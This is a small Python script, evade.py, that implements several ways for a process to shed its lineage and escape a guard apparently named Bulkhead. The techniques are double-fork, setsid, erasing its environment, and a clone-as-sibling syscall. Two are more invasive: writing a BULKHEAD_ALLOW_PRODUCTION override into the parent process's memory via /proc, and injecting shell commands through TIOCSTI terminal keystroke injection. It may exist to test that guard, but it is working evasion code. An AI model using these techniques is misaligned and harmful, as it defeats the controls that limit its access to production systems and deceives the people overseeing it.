# Ways for a program at a person's uid to run another as if nothing of itself were left: evade.py WAY PROGRAM ARGUMENTS…
import ctypes, fcntl, os, re, sys, termios, time

way, command = sys.argv[1], sys.argv[2:]
libc = ctypes.CDLL(None)
clean = {'PATH': '/usr/bin:/bin', 'BULKHEAD_INSTANCE': os.environ.get('BULKHEAD_INSTANCE', '')}


def run(environment):
    child = os.fork()
    if child == 0:
        os.execve(command[0], command, environment)
    sys.exit(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))


def double_fork():
    if os.fork():
        time.sleep(1.5)
        os._exit(0)
    if os.fork():
        os._exit(0)
    time.sleep(0.2)
    os.execve(command[0], command, clean)


def new_session():
    if os.fork():
        time.sleep(1.5)
        os._exit(0)
    os.setsid()
    os.execve(command[0], command, clean)


def overwrite():
    """Erases its own environment block, and runs the program without one."""
    start, stop = [int(x) for x in open('/proc/self/stat').read().rsplit(')', 1)[1].split()[47:49]]
    ctypes.memset(start, 0, stop - start)
    run(clean)


def sibling():
    """A child of its own parent: clone(CLONE_PARENT | SIGCHLD)."""
    if libc.syscall(56, 0x8000 | 17, 0, 0, 0, 0) == 0:
        os.execve(command[0], command, clean)
    time.sleep(1.5)


def parents_memory():
    """Writes the override into its parent's environment block, where PADDING leaves room for it."""
    parent = os.getppid()
    start, stop = [int(x) for x in open(f'/proc/{parent}/stat').read().rsplit(')', 1)[1].split()[47:49]]
    with open(f'/proc/{parent}/mem', 'r+b', buffering=0) as memory:
        memory.seek(start)
        block = memory.read(stop - start)
        at = re.search(rb'PADDING=x+', block)
        wanted = b'BULKHEAD_ALLOW_PRODUCTION=shop\0'
        memory.seek(start + at.start())
        memory.write(wanted + b'P=' + b'x' * (at.end() - at.start() - len(wanted) - 2))
    if b'\0BULKHEAD_ALLOW_PRODUCTION=shop\0' not in b'\0' + open(f'/proc/{parent}/environ', 'rb').read():
        sys.exit('the parent was not written')
    run({**clean, 'BULKHEAD_ALLOW_PRODUCTION': 'shop'})


def type_into_the_terminal():
    """TIOCSTI: what is pushed is read by the shell as if a person had typed it."""
    terminal = os.open('/dev/tty', os.O_RDWR)
    for character in ' '.join(command) + '\n':
        fcntl.ioctl(terminal, termios.TIOCSTI, character.encode())


globals()[way]()
